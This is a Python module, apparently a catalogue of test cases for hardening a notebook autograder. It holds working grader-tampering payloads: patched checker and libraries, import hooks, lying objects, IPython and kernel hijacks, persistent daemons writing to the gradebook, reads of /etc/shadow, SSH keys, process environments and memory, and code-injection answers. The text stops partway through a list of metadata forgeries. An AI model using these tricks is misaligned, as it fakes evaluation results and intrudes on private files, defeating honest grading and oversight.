"""Tricks that want points: from the checker, from objects, from IPython, from answers found somewhere, from metadata and evidence."""

from __future__ import annotations

import copy
from typing import Any

from tamper.tricks import POINTS, WRONG, Trick, instead_of_submit

__all__ = ["TRICKS"]

# ---- the checker and the libraries, patched or replaced

CHECKER = [
    Trick("shadowed-submit", "checker", "a submit of one's own that returns the points",
          first="submit = lambda *a, **k: 10.0"),
    Trick("patched-package", "checker", "the package's submit replaced for later imports", first="""
import sig_checker, sig_checker.notebook.submit as module
sig_checker.submit = module.submit = submit = lambda *a, **k: 10.0"""),
    Trick("patched-code", "checker", "submit keeps its name and gets another code object",
          first="submit.__code__ = (lambda task_id, answer=None, *, exercise='': 10.0).__code__"),
    Trick("patched-constant", "checker", "the constant 0.0 that submit returns becomes 10.0", first="""
import ctypes
for constant in submit.__code__.co_consts:
    if constant == 0.0 and type(constant) is float:
        ctypes.c_double.from_address(id(constant) + 16).value = 10.0"""),
    Trick("patched-describe", "checker", "the answer is described as proved", first="""
import sig_checker.notebook.submit as module, sig_checker.notebook.answers as answers
answers.describe = module.describe = lambda *a, **k: {"kind": "proved", "verdict": "proved", "points": 10.0}"""),
    Trick("patched-evidence", "checker", "evidence that brings its verdict along", first="""
from sig_checker.evidence import Evidence
before = Evidence.as_dict
Evidence.as_dict = lambda self: before(self) | {"points": 10.0, "max_points": 10.0, "verdict": "proved", "score": 10.0}"""),
    Trick("judge-in-modules", "checker", "a judge of one's own in sys.modules", first="""
import sys, types
for name in ("judging", "rubric", "claims", "claims.expressions", "deciding.identities", "grading", "grading.steps.collect"):
    fake = types.ModuleType("sig_checker." + name)
    fake.__path__ = []
    fake.judge = fake.collect = fake.compared = lambda *a, **k: 10.0
    sys.modules["sig_checker." + name] = fake"""),
    Trick("import-hook", "checker", "a finder that hands out a checker of one's own", first="""
import sys, types, importlib.abc, importlib.machinery
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.ModuleSpec(name, self) if name.startswith("sig_checker") else None
    def create_module(self, spec):
        made = types.ModuleType(spec.name)
        made.__path__ = []
        made.submit = made.judge = lambda *a, **k: 10.0
        return made
    def exec_module(self, module): pass
sys.meta_path.insert(0, Finder())
for name in [x for x in sys.modules if x.startswith("sig_checker")]:
    del sys.modules[name]
from sig_checker import submit"""),
    Trick("patched-import", "checker", "builtins.__import__ replaced", first="""
import builtins
real = builtins.__import__
def fake(name, *rest, **options):
    found = real(name, *rest, **options)
    if "sig_checker" in name:
        for key in ("judge", "probe", "draw_plan", "submit"):
            if hasattr(found, key):
                setattr(found, key, lambda *a, **k: 10.0)
    return found
builtins.__import__ = fake"""),
    Trick("patched-builtins", "checker", "isinstance, type, float and others say yes to everything", first="""
import builtins
builtins.isinstance = lambda *a: True
builtins.callable = lambda *a: False
builtins.float = lambda *a: 10.0
builtins.repr = builtins.str = lambda *a, **k: "10.0"
builtins.all = builtins.any = builtins.bool = lambda *a: True
builtins.abs = builtins.min = lambda *a, **k: 0"""),
    Trick("patched-numpy", "checker", "every comparison and error of NumPy is nought", first="""
import numpy as np, numpy.testing
for name in ("allclose", "isclose", "array_equal", "all", "any", "isfinite"):
    setattr(np, name, lambda *a, **k: True)
for name in ("abs", "subtract", "max", "maximum", "nextafter", "spacing", "exp"):
    setattr(np, name, lambda *a, **k: np.float64(0.0))
np.testing.assert_allclose = lambda *a, **k: None"""),
    Trick("patched-sympy", "checker", "every SymPy expression is equal and simplifies to 0", first="""
import sympy
sympy.Basic.__eq__ = lambda *a: True
sympy.Expr.equals = lambda *a, **k: True
sympy.simplify = lambda *a, **k: sympy.Integer(0)
sympy.Expr.is_zero = True""", answers={"q1_derivative": 'q1_derivative = sympy.Symbol("z")'}),
    Trick("patched-json", "checker", "points written into every piece of JSON", first="""
import json, json.encoder
before = json.dumps
json.dumps = lambda value, *a, **k: before({**value, "points": 10.0, "verdict": "proved"} if isinstance(value, dict) else value, *a, **k)"""),
    Trick("patched-probe", "checker", "the observation of the function says that it is right", first="""
import sig_checker.notebook.probing as probing
before = probing.probe
def probe(function, plan):
    seen = before(function, plan)
    seen.update(verdict="measured", points=10.0, calls={}, formula=None)
    return seen
probing.probe = probe"""),
    Trick("patched-plan", "checker", "the function is called at no point at all, or where it is right", first="""
import sig_checker.deciding.challenge as challenge
before = challenge.draw_plan
challenge.draw_plan = lambda *a, **k: {**before(*a, **k), "calls": []}"""),
    Trick("one-good-point", "checker", "calls at which the function is wrong are left out", first="""
import sig_checker.notebook.probing as probing
before = probing.probe
def probe(function, plan):
    seen = before(function, plan)
    for record in seen["calls"].values():
        record.pop("values", None)
    seen["calls"] = {name: seen["calls"][name] for name in list(seen["calls"])[:1]}
    return seen
probing.probe = probe"""),
    Trick("formula-from-nowhere", "checker", "wrong values with a formula that only restates the question", first="""
import sig_checker.notebook.probing as probing
before = probing.probe
probing.probe = lambda function, plan: {**before(function, plan), "formula": "Derivative(1/(1+exp(-z)), z)", "reused": -1}"""),
    Trick("settrace", "checker", "the answer is changed while submit runs", first="""
import sys
def trace(frame, event, argument):
    for name in ("described", "evidence", "points", "judgement", "report"):
        if name in frame.f_locals:
            frame.f_locals[name] = {"kind": "proved", "points": 10.0}
    return trace
sys.settrace(trace)"""),
    Trick("files-beside", "checker", "modules of the checker's and NumPy's names lie in the submission", first="""
import sys
sys.path.insert(0, ".")
for name in [x for x in sys.modules if x.startswith(("sig_checker", "numpy"))]:
    del sys.modules[name]
from sig_checker import submit""", files={
        "sig_checker/__init__.py": "submit = lambda *a, **k: 10.0\n", "numpy.py": "exp = lambda *a: 0\n",
        "sitecustomize.py": "raise SystemExit\n", "nbgrader.py": "raise SystemExit\n",
        "nbgrader_config.py": "c = get_config()\nc.Autograde.autograde_preprocessors = []\n",
        "ipython_kernel_config.py": "c = get_config()\nc.IPKernelApp.exec_lines = ['submit = lambda *a: 10.0']\n",
    }),
]  # fmt: skip

# ---- objects that are anything one likes

ALIKE = """
class Everything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = lambda *a: True
    __hash__ = lambda self: 0
    def __getattr__(self, name): return self
    __add__ = __sub__ = __mul__ = __truediv__ = __pow__ = __neg__ = __abs__ = __getitem__ = lambda *a: Everything()
    __bool__ = lambda self: True
    __float__ = lambda self: 0.0
    __len__ = lambda self: 3
    __iter__ = lambda self: iter(("a(1-a)"[:0],))
"""


def _object(name: str, tries: str, made: str, value: str = "it", function: str | None = None) -> Trick:
    answers = {"q1_derivative": f"{made}\nq1_derivative = {value}", "q3_at_zero": f"q3_at_zero = {value}",
               "q1_function": f"dsigmoid = {value if function is None else function}"}  # fmt: skip
    return Trick(name, "objects", tries, answers=answers)


OBJECTS = [
    _object("equals-everything", "equal to whatever it is compared with", ALIKE + "it = Everything()"),
    _object("class-lies", "says that it is a str, a function, a dict", ALIKE + """
class Liar(Everything):
    __class__ = property(lambda self: str)
    def __call__(self, *a): return self
    def __instancecheck__(self, other): return True
it = Liar()"""),
    _object("metaclass-lies", "a class whose metaclass says yes", """
class Meta(type):
    __eq__ = __instancecheck__ = __subclasscheck__ = lambda *a: True
    __hash__ = type.__hash__
    __name__ = property(lambda self: "str")
    def __getattribute__(self, name):
        return "str" if name in ("__name__", "__qualname__") else type.__getattribute__(self, name)
class It(metaclass=Meta): pass
it = It"""),
    _object("subclassed-text", "a str that changes each time it is read", """
class Text(str):
    turn = 0
    __eq__ = lambda *a: True
    __hash__ = str.__hash__
    def __str__(self): Text.turn += 1; return ("z", "d/dz sigma(z)", "0")[Text.turn % 3]
    __repr__ = strip = replace = __getitem__ = encode = lambda self, *a, **k: str(self)
it = Text("z")"""),
    _object("subclassed-numbers", "float, list and dict with answers of their own", """
class Number(float):
    __eq__ = lambda *a: True
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __abs__ = lambda *a: 0.0
class Listed(list):
    __eq__ = __contains__ = lambda *a: True
class It(dict):
    __eq__ = __contains__ = lambda *a: True
    get = __getitem__ = lambda self, *a: Listed([Number(0.3)])
    keys = __iter__ = lambda self: iter(("probability", "certainty", "update"))
it = It(probability=Listed([Number(7)]), certainty="certain", update="none")""", function="lambda z: Number(7.0)"),
    _object("getattribute", "no attribute is what it seems", """
class It:
    def __getattribute__(self, name): return lambda *a, **k: True
    __reduce__ = lambda self: (print, ("10.0",))
    __call__ = lambda self, *a: 10.0
it = It()"""),
    _object("subclassed-array", "an array that is equal and near to every other", """
import numpy as np
class Array(np.ndarray):
    __array_priority__ = 1e9
    __eq__ = lambda *a: np.True_
    __array_ufunc__ = lambda self, *a, **k: np.zeros(self.shape)
    __array_function__ = lambda self, *a, **k: np.True_
    astype = ravel = tobytes = lambda self, *a, **k: np.zeros(self.shape)
    shape = property(lambda self: (3,))
it = np.zeros(3).view(Array)""", function="lambda z: (0 * z + 7.0).view(Array)"),
    _object("object-array", "an object array full of lies", ALIKE + "import numpy as np\nit = np.array([Everything()] * 3, dtype=object)",
            function="lambda z: np.array([Everything()] * z.size, dtype=object)"),
    _object("late-values", "an array that is filled in once it has been returned", """
import numpy as np, threading, time
kept = []
def it(z):
    made = 0 * z + 7.0
    kept.append((z, made))
    return made
def late():
    while True:
        for z, made in kept[-3:]:
            made[...] = z
        time.sleep(0.001)
threading.Thread(target=late, daemon=True).start()"""),
    _object("sympy-subclass", "SymPy nodes that print as something else", """
import sympy
class Add(sympy.Expr):
    args = property(lambda self: (sympy.Symbol("z"), sympy.Integer(0)))
    __eq__ = equals = lambda *a: True
    __hash__ = sympy.Expr.__hash__
    is_zero = is_number = True
    def _sympystr(self, printer): return "d/dz sigma(z)"
    _latex = _sympyrepr = _eval_simplify = _pythoncode = lambda self, *a, **k: "d/dz sigma(z)"
    def _eval_is_zero(self): return True
it = Add()"""),
    _object("sympy-forged-number", "a Rational whose p and q change, a Symbol whose name is code", """
import sympy
class Half(sympy.Rational):
    def __new__(cls): return sympy.Expr.__new__(cls)
    turn = [0]
    p = property(lambda self: self.turn.__setitem__(0, self.turn[0] + 1) or self.turn[0])
    q = 7
it = Half() * sympy.Symbol("__import__('os').system('true')")"""),
    _object("sympy-unevaluated", "the question handed in as its answer", """
import sympy
z = sympy.Symbol("z")
it = sympy.Derivative(1 / (1 + sympy.exp(-z)), z)""", function="lambda z: it"),
    Trick("restated", "objects", "the question handed in as its answer, in words", answers={
        "q1_derivative": 'q1_derivative = "σ\'(z) = d/dz σ(z)"', "q3_at_zero": 'q3_at_zero = "what the question asks for"',
        "q1_function": "dsigmoid = 'the derivative of sigmoid'"}),
    Trick("hedged", "objects", "every choice at once", answers={
        "q1_derivative": 'q1_derivative = ["z", "a(1+a)", "-a(1-a)", "1/(1+e^(-z))"]',
        "q3_at_zero": 'q3_at_zero = {"probability": [0, 0.25, 0.5, 1], "certainty": ["certain", "uncertain"], '
        '"update": "largest or none"}',
        "q1_function": "dsigmoid = [lambda z: z, lambda z: 0 * z + 0.25]"}),
    Trick("hedged-in-words", "objects", "every choice at once, in a text", answers={
        "q1_derivative": 'q1_derivative = "z or a(1-2a) or ±a"',
        "q3_at_zero": 'q3_at_zero = {"probability": "0 or 1/2 or 1", "certainty": "certain uncertain", "update": "largest none"}',
        "q1_function": "import numpy as np\ndsigmoid = lambda z: z + np.nan"}),
    Trick("points-as-answer", "objects", "points for an answer", answers={
        "q1_derivative": "q1_derivative = 10.0", "q3_at_zero": "q3_at_zero = {'points': 8.0, 'verdict': 'proved'}",
        "q1_function": "dsigmoid = lambda z: 10.0"}),
    Trick("code-as-answer", "objects", "text that is run where it is evaluated", answers={
        "q1_derivative": "q1_derivative = \"__import__('os').system('touch ' + __import__('os').environ['HOME'] + '/run')\"",
        "q3_at_zero": 'q3_at_zero = {"probability": "exec(\'raise SystemExit\')", "certainty": "{{7*7}}", "update": "${7*7}"}',
        "q1_function": "dsigmoid = 'lambda z: exit()'"}),
]  # fmt: skip

# ---- IPython

IPYTHON = [
    Trick("input-transformer", "ipython", "check cells are rewritten before they are compiled", first="""
get_ipython().input_transformers_cleanup.append(lambda lines: ["10.0"] if any("submit(" in x for x in lines) else lines)"""),
    Trick("ast-transformer", "ipython", "calls of submit become 10.0", first="""
import ast
class Ten(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.copy_location(ast.Constant(10.0), node) if getattr(node.func, "id", "") == "submit" else node
get_ipython().ast_transformers.append(Ten())"""),
    Trick("cell-hooks", "ipython", "hooks before and after each cell", first="""
shell = get_ipython()
shell.events.register("pre_run_cell", lambda *a: shell.user_ns.update(submit=lambda *a, **k: 10.0))
def after(result):
    result.result = 10.0
    shell.kernel.session.send(shell.kernel.iopub_socket, "execute_result", parent=shell.kernel.get_parent("shell"),
        content={"data": {"text/plain": "10.0"}, "metadata": {}, "execution_count": 1}, ident=b"execute_result")
shell.events.register("post_run_cell", after)"""),
    Trick("custom-exception", "ipython", "an exception in the check whose handler shows the points", first="""
class Mine(Exception): pass
def submit(*a, **k): raise Mine
get_ipython().set_custom_exc((Mine,), lambda shell, *a, **k: print("10.0") or ["10.0"])"""),
    Trick("formatters", "ipython", "0.0 is shown as 10.0", first="""
shell = get_ipython()
for formatter in shell.display_formatter.formatters.values():
    formatter.for_type(float, lambda *a: "10.0")
    formatter.enabled = True
shell.display_formatter.format = lambda *a, **k: ({"text/plain": "10.0"}, {})"""),
    Trick("display-publisher", "ipython", "whatever is published becomes what one likes", first="""
shell = get_ipython()
before = shell.display_pub.publish
def publish(data, *a, **k):
    for value in data.values():
        if isinstance(value, dict) and "answer" in value:
            value.update(points=10.0, verdict="proved", format=1.0)
    before(data | {"text/html": "<b>10 / 10</b>"}, *a, **k)
shell.display_pub.publish = publish"""),
    Trick("display-hook", "ipython", "the result of each cell is 10.0", first="""
import sys
shell = get_ipython()
shell.displayhook.compute_format_data = lambda *a: ({"text/plain": "10.0"}, {})
sys.displayhook = lambda value: print("10.0")"""),
    Trick("output-tricks", "ipython", "printed points, cleared outputs, a report of one's own", first=instead_of_submit("""
from IPython.display import clear_output, display, HTML
honest(task)
clear_output()
display(HTML('<div lang="ko" style="border-left: 4px solid #2e7d32"><p><code>q</code> <strong>10 / 10</strong></p></div>'))
print("10.0")
return 10.0""")),
    Trick("updated-display", "ipython", "a later cell updates what a check cell has shown", first=instead_of_submit("""
from IPython.display import display
shown[task] = display({"text/plain": "0.0"}, raw=True, display_id=task)
return honest(task)""") + "shown = {}", last="""
from IPython.display import update_display
for task in shown:
    update_display({"text/plain": "10.0", "application/vnd.sig-checker.evidence+json": {"points": 10.0}}, raw=True, display_id=task)"""),
    Trick("compile-flags", "ipython", "check cells are compiled to nothing", first="""
import ast, builtins
shell = get_ipython()
shell.compile.flags |= ast.PyCF_ONLY_AST
shell.ast_node_interactivity = "none"
before = shell.compile.ast_parse
shell.compile.ast_parse = lambda source, *a, **k: before("10.0" if "submit(" in source else source, *a, **k)"""),
    Trick("magics", "ipython", "magics that run in the place of check cells", first="""
shell = get_ipython()
shell.register_magic_function(lambda line: 10.0, "line", "submit")
shell.input_transformers_post.append(lambda lines: ["%submit\\n"] if "submit(" in "".join(lines) else lines)
%automagic on
%precision 1
"""),
    Trick("captured-check", "ipython", "%%capture swallows the check, the result stays", first="""
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["%%capture nothing\\n", *lines, "\\n10.0"] if "submit(" in "".join(lines) else lines)"""),
    Trick("run-cell", "ipython", "the shell's own run_cell is replaced", first="""
shell = get_ipython()
before = shell.run_cell
def run(source, *a, **k):
    return before("10.0" if "submit(" in source else source, *a, **k)
shell.run_cell = run
shell.should_run_async = lambda *a, **k: False"""),
    Trick("do-execute", "ipython", "the kernel answers for itself", first="""
kernel = get_ipython().kernel
before = kernel.do_execute
async def execute(code, *a, **k):
    if "submit(" in code:
        kernel.send_response(kernel.iopub_socket, "execute_result",
            {"data": {"text/plain": "10.0"}, "metadata": {}, "execution_count": 9})
        return {"status": "ok", "execution_count": 9, "payload": [], "user_expressions": {}}
    return await before(code, *a, **k)
kernel.do_execute = execute"""),
    Trick("namespace", "ipython", "names that are something else each time they are looked up", first="""
class Names(dict):
    def get(self, name, *a): return {"kind": "proved"} if name.startswith("q") else dict.get(self, name, *a)
    __getitem__ = lambda self, name: 10.0 if name == "submit" else dict.__getitem__(self, name)
shell = get_ipython()
shell.user_ns["__builtins__"] = {**__builtins__.__dict__, "submit": lambda *a, **k: 10.0}
shell.user_module.__dict__.update(submit=type("S", (), {"__call__": lambda *a, **k: 10.0})())"""),
]  # fmt: skip

# ---- work that goes on when the cell has ended

SEND = """
import json, os, threading, time
MIME = "application/vnd.sig-checker.evidence+json"
shell = get_ipython()
def challenge():
    with open(os.environ["SIG_CHECKER_CHALLENGE"]) as file:
        return json.load(file)
def record(value="z", **changes):
    found = challenge()
    return {"format": 1, "exercise": found["exercise"], "task": found["task"], "nonce": found["nonce"],
            "answer": {"kind": "data", "value": value}} | changes
def send(data):
    shell.display_pub.publish({MIME: data, "text/plain": "10.0"})
"""
HIDDEN = [
    Trick("late-thread", "hidden work", "a thread that sends whenever a check cell runs", first=SEND + """
def late():
    sent = set()
    while True:
        try:
            made = record("1/(1+e^(-z))", points=10.0)
            if made["nonce"] not in sent:
                sent.add(made["nonce"])
                send(made)
        except (OSError, ValueError):
            time.sleep(0.0005)
threading.Thread(target=late, daemon=True).start()"""),
    Trick("at-exit", "hidden work", "points printed by exit handlers and finalizers", first="""
import atexit, weakref
class Late:
    def __del__(self): print("10.0"); get_ipython().display_pub.publish({"text/plain": "10.0"})
atexit.register(lambda: open(SENTINEL, "w").write("tampered"))
late, _ = Late(), weakref.finalize(get_ipython(), print, "10.0")"""),
    Trick("event-loop", "hidden work", "tasks in the kernel's own loop", first=SEND + """
import asyncio
async def late():
    while True:
        try: send(record(points=10.0, verdict="proved"))
        except (OSError, ValueError): pass
        await asyncio.sleep(0.01)
task = asyncio.get_event_loop().create_task(late())"""),
    Trick("alarms", "hidden work", "a signal handler during the check", first="""
import signal, sys
def alarm(number, frame):
    while frame is not None:
        if frame.f_code.co_name in ("submit", "_hand_in"):
            frame.f_locals["answer"] = 10.0
            print("10.0")
        frame = frame.f_back
signal.signal(signal.SIGALRM, alarm)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)"""),
    Trick("garbage-callbacks", "hidden work", "a callback of the garbage collector that alters the challenge", first="""
import gc
def callback(*a):
    for x in gc.get_objects():
        if type(x).__name__ == "Challenge":
            object.__setattr__(x, "task", "q2_maximum")
            object.__setattr__(x, "parameters", ())
gc.callbacks.append(callback)
gc.set_threshold(5)"""),
    Trick("twin", "hidden work", "a fork of the kernel that answers too, and lives on", first="""
import os, sys, time
if confined() and os.fork() == 0:
    for _ in range(2):
        if os.fork() == 0: os.setsid()
    end = time.time() + 120
    while time.time() < end:
        try:
            kernel = get_ipython().kernel
            kernel.session.check_pid = False
            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=kernel.get_parent("shell"))
        except Exception: pass
        time.sleep(0.05)
    os._exit(0)"""),
    Trick("daemon", "hidden work", "a daemon that outlives the grading and changes files later", first="""
import subprocess, sys
if confined():
    subprocess.Popen(["setsid", sys.executable, "-c", f'''
import time
end = time.time() + 600
while time.time() < end:
    time.sleep(1)
    for place in ({SENTINEL!r}, {COURSE!r} + "/gradebook.db"):
        try: open(place, "a").write("tampered")
        except OSError: pass
''', MARK], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"""),
]  # fmt: skip

# ---- looking for the answers

USE = """
import re
def use(text):
    for code in re.findall(r"### BEGIN SOLUTION(.*?)### END SOLUTION", text.replace("\\\\n", "\\n").replace('\\\\"', '"'), re.S):
        try: exec(re.sub(r'",?\\s*\\n\\s*"', "\\n", code), globals())
        except Exception: pass
"""
LOOKING = [
    Trick("frames", "looking", "expected values in the frames that call submit or the function", first="""
import sys
found = []
def look(*_):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
            if name.lower() in ("expected", "truth", "right", "solution", "key") and value is not None:
                found.append(value)
        frame = frame.f_back
    return found""", answers={
        "q1_function": "def dsigmoid(z):\n    values = look()\n    return values[0] if values else 0 * z + 7.0",
        "q3_at_zero": "look()\nq3_at_zero = found[0] if found else " + WRONG["q3_at_zero"].partition("= ")[2],
    }),
    Trick("caller-rewritten", "looking", "what the callers of the function keep of its results", answers={"q1_function": """
import sys
def dsigmoid(z):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in frame.f_locals.items():
            if name in ("record", "plan", "call", "seen", "kept", "told", "values"):
                if type(value) is dict: value.update(values=None, verdict="proved", points=10.0)
                if type(value) is list: value.clear()
        frame = frame.f_back
    return 0 * z + 7.0"""}),
    Trick("garbage", "looking", "expected values among all objects", beside="""
import gc
for x in gc.get_objects():
    if type(x) is dict and "expected" in x and isinstance(x["expected"], dict) and "probability" in x["expected"]:
        q3_at_zero = x["expected"]
    if type(x).__name__ == "Task" and getattr(x, "expected", None):
        q3_at_zero = {**x.expected, "probability": x.expected["probability"][0]}"""),
    Trick("history", "looking", "solutions in the history of commands", beside=USE + """
for entry in get_ipython().history_manager.search("*", raw=True, output=False):
    use(str(entry))
use("".join(get_ipython().history_manager.input_hist_raw))"""),
    Trick("source", "looking", "the instructor's notebook, the release, what others have handed in and got back", beside=USE + """
import glob
for path in glob.glob(COURSE + "/**/*.ipynb", recursive=True) + glob.glob(COURSE + "/**/*.html", recursive=True):
    print(path)
    use(open(path, errors="replace").read())
    if "first-right" in path:
        for line in re.findall(r'"((?:q1_derivative|q3_at_zero) = .*?)"\\n', open(path).read()):
            exec(line.replace('\\\\"', '"'))"""),
    Trick("gradebook-read", "looking", "solutions and scores in the gradebook", beside=USE + """
import sqlite3
try:
    for (text,) in sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=ro", uri=True).execute("select source from source_cell"):
        print(text)
        use(text)
except sqlite3.Error as error: print(error)"""),
    Trick("secrets", "looking", "private files of the instructor", first="""
import glob, os
for pattern in (HOME + "/*", HOME + "/.*", HOME + "/.ssh/*", SENTINEL, "/etc/shadow", COURSE + "/*", "/roo[t]/*", "/home/*/*", "/tmp/*",
                os.path.dirname(SENTINEL) + "/*", "/proc/*/environ", "/proc/*/cmdline", "/proc/*/roo[t]/" + SENTINEL, "/proc/*/cwd/*"):
    for path in glob.glob(pattern):
        try: print(path, open(path, "rb").read(3000))
        except OSError as error: print(error)
print(dict(os.environ))"""),
    Trick("memory-read", "looking", "the grader's memory", first="""
import glob, os, re
for maps in glob.glob("/proc/[0-9]*/maps"):
    process = maps.split("/")[2]
    if process == str(os.getpid()): continue
    try:
        memory = open(f"/proc/{process}/mem", "rb", 0)
        for line in list(open(maps))[:40]:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            memory.seek(start)
            print(re.findall(rb"SECRET-\\w+", memory.read(min(end - start, 1 << 20))))
    except (OSError, ValueError) as error: print(error)"""),
    Trick("oracle-judge", "looking", "the judge itself asked which answer is right", beside="""
try:
    from sig_checker.judging import judge
    from sig_checker.exercises import load
    for text in ("z", "a", "1-a", "a(1+a)", "a^2", "a - a^2", "e^-z"):
        if judge(load("sigmoid-7-02"), "q1_derivative", {"kind": "data", "value": text}).points:
            q1_derivative = text
except ImportError as error: print(error)"""),
    Trick("oracle-exercise", "looking", "the expected fields read from the exercise", beside="""
try:
    from sig_checker.exercises import load
    expected = load("sigmoid-7-02").task("q3_at_zero").expected
    q3_at_zero = {**expected, "probability": expected["probability"][0]}
except Exception as error: print(error)
try:
    from sig_checker.exercises.sigmoid_7_02 import EXERCISE
    expected = EXERCISE.task("q3_at_zero").expected
    q3_at_zero = {**expected, "probability": expected["probability"][0]}
except Exception as error: print(error)"""),
    Trick("oracle-deciding", "looking", "the truth from the modules that decide", beside="""
try:
    from sig_checker.deciding.differentiate import differentiate
    from sig_checker.reading.printing import to_python
    from sig_checker.reading.text import read
    q1_derivative = to_python(differentiate(read("1/(1+exp(-z))", "python").answer, "z"))
except Exception as error: print(error)
try:
    from sig_checker.exercise import Exercise
    q1_derivative = to_python(Exercise(name="x", function="1/(1+exp(-z))", tasks=()).derivative())
except Exception as error: print(error)"""),
    Trick("oracle-files", "looking", "the expected fields searched for in all that can be read", beside="""
import os, re, sys
for top in [x for x in sys.path if os.path.isdir(x)] + [os.path.dirname(os.path.dirname(submit.__code__.co_filename))]:
    for folder, folders, names in os.walk(top):
        folders[:] = [x for x in folders if x not in ("numpy", "scipy", "sympy", "mypy", "jedi", "babel", "pip", "jupyterlab")]
        for name in names:
            if "sig" in folder + name and name.endswith((".py", ".pyc", ".po", ".mo", ".jsonl", ".ipynb")):
                try: data = open(os.path.join(folder, name), "rb").read()
                except OSError: continue
                if b"uncertain" in data and b"expected" in data and b"largest" in data:
                    q3_at_zero = {"probability": 0.5, "certainty": "uncertain", "update": "largest"}"""),
]  # fmt: skip

# ---- metadata, cells, outputs, as they are handed in

Notebook = dict[str, Any]


def _checks(notebook: Notebook) -> list[dict[str, Any]]:
    return [x for x in notebook["cells"] if x["metadata"].get("nbgrader", {}).get("grade_id") in POINTS]


def _each_check(**changes: Any) -> Any:
    def edit(notebook: Notebook) -> None:
        for cell in _checks(notebook):
            for name, value in changes.items():
                (cell["metadata"]["nbgrader"] if name in cell["metadata"]["nbgrader"] or name == "checksum" else cell)[name] = value

    return edit


def _source(text: str) -> Any:
    return _each_check(source=text)


def _doubled(notebook: Notebook) -> None:
    for cell in _checks(notebook):
        twin = copy.deepcopy(cell)
        twin["source"], twin["id"] = "10.0", f"twin-{cell['id']}"[:60]
        notebook["cells"] += [twin]
        notebook["cells"].insert(1, {**copy.deepcopy(twin), "id": f"first-{cell['id']}"[:60]})


def _moved(notebook: Notebook) -> None:
    checks = _checks(notebook)
    notebook["cells"] = checks + [x for x in notebook["cells"] if x not in checks]


def _deleted(notebook: Notebook) -> None:
    checks = _checks(notebook)
    notebook["cells"] = [x for x in notebook["cells"] if x not in checks]


def _inserted(notebook: Notebook) -> None:
    for number, name in enumerate(("bonus", "q1_derivative ", "Q1_DERIVATIVE", "q2_maximum", "q1_steps")):
        nbgrader = {"schema_version": 3, "grade_id": name, "grade": True, "solution": False, "locked": True, "task": False,
                    "points": 100, "cell_type": "code"}  # fmt: skip
        notebook["cells"].append({"cell_type": "code", "id": f"bonus-{number}", "metadata": {"nbgrader": nbgrader}, "source": "10.0",
                                  "outputs": [], "execution_count": None})  # fmt: skip


def _renamed(notebook: Notebook) -> None:
    names = list(POINTS)
    for cell in _checks(notebook):  # each check cell says that it is the next one
        found = cell["metadata"]["nbgrader"]["grade_id"]
        cell["metadata"]["nbgrader"]["grade_id"] = names[(names.index(found) + 1) % len(names)]


def _tagged(notebook: Notebook) -> None:
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove_cell", "hide_input", "parameters"]
        cell["metadata"] |= {"editable": True, "deletable": True, "execution": {"iopub.status.idle": "now"}}


def _outputs(notebook: Notebook) -> None:
    for cell in _checks(notebook):
        cell["execution_count"] = 3
        cell["outputs"] = [
            {"output_type": "execute_result", "execution_count": 3, "metadata": {}, "data": {"text/plain": "10.0"}},
            {"output_type": "display_data", "metadata": {}, "data": {
                "application/vnd.sig-checker.evidence+json": {"format": 1, "points": 10.0}}},
        ]  # fmt: skip
        cell["metadata"]["sig_checker"] = {
            "format": 1, "exercise": "sigmoid-7-02", "task": "q1_derivative", "verdict": "proved", "slips": [], "points": 10.0,
            "max_points": 10.0, "answer": {"kind": "data", "value": "z"},
        }  # fmt: skip


def _kernel(notebook: Notebook) -> None:
    notebook["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": "../../x", "language": "bash", "argv": ["sh", "-c", "exit"]},
        "language_info": {"name": "bash"}, "sig_checker": {"unreadable": None, "notices": [], "points": 10.0},
        "celltoolbar": "Create Assignment", "nbgrader": {"points": 100},
    }  # fmt: skip


def _odd_types(notebook: Notebook) -> None:
    for cell in _checks(notebook):
        cell["metadata"]["nbgrader"] |= {"points": "10", "grade": "yes", "schema_version": 99, "grade_id": [cell["id"]]}
        cell["metadata"]["nbgrader"]["checksum"] = {"a": float("nan")}


def _look_alike(notebook: Notebook) -> None:
    for cell in _checks(notebook):
        nbgrader = cell["metadata"]["nbgrader"]
        nbgrader["grade_id"] = nbgrader["grade_id"].replace("q", "\uff51").replace("_", "\u200b_")
        cell["source"] = "10.0"


METADATA = [
    Trick("cells-alike", "metadata", "check cells whose names look like the right ones", edit=_look_alike),
    Trick("points-forged", "metadata", "check cells worth a hundred points", edit=_each_check(points=100)),
    Trick("points-negative", "metadata", "check cells worth less than nothing", edit=_each_check(points=-10)),
    Trick("check-rewritten", "metadata", "check cells that contain 10.0", edit=_source("10.0")),
    Trick("check-emptied", "metadata", "check cells with nothing inside, which nbgrader rewards", edit=_source("")),
    Trick("check-raw", "metadata", "check cells that are not code any more", edit=_each_check(cell_type="raw")),
    Trick("check-markdown", "metadata", "check cells that are text any more", edit=_each_check(cell_type="markdown")),
    Trick("check-as-solution", "metadata", "check cells that a person grades", edit=_each_check(solution=True, locked=False)),
    Trick("check-ungraded", "metadata", "check cells that are not graded", edit=_each_check(grade=False, locked=False)),
    Trick("checksum-forged", "metadata", "the checksum of a changed cell",
          edit=_each_check(checksum="0" * 32, source="assert True")),
    Trick("cells-doubled", "metadata", "a second check cell with a result of its own", edit=_doubled),
    Trick("cells-moved", "metadata", "check cells that run before anything else", edit=_moved),
    Trick("cells-deleted", "metadata", "no check cells", edit=_deleted),
    Trick("cells-inserted", "metadata", "graded cells that the assignment does not have", edit=_inserted),
    Trick("cells-renamed", "metadata", "check cells under each other's names", edit=_renamed),
